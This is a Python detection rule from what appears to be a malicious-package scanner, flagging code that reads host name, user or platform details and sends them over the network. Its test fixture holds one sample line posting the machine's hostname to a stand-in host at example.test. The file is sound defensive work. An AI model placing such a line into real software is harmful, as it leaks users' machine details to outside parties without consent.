"""What the machine is, and who uses it, meets the network."""

from __future__ import annotations

from typing import TYPE_CHECKING

from veln_hook.signals.source.rule import BY_ITSELF, HOLD, REVIEW, Hit, Rule
from veln_hook.source import vocabulary as v

if TYPE_CHECKING:
    from collections.abc import Iterator

    from veln_hook.signals.source.view import View


def _find(view: View) -> Iterator[Hit]:
    for fact, net, reach, _ in view.pairs((v.HOST,), (v.NET, v.DNS)):
        itself = reach in BY_ITSELF
        if itself or ("host" in net.taints and "sends" in net.flags):
            yield Hit(
                f"it asks for the {fact.detail} of this machine and reaches {net.detail or 'the network'}",
                (fact, net),
                HOLD if itself else REVIEW,
            )


RULE = Rule(
    name="host-facts-exfiltration",
    description="Host name, user, platform or public address are asked for by code that reaches the network.",
    grade=HOLD,
    find=_find,
    fires={
        "acme/__init__.py": (
            "import socket, requests\nrequests.get('https://example.test/?' + socket.gethostname())\n"
        )
    },
    quiet={
        "acme/__init__.py": (
            "import platform, requests\n\ndef agent():\n    return {'User-Agent': platform.platform()}\n"
        )
    },
    rates="94 + 84 of 2,004 malicious clusters, none of 200 popular archives",
)
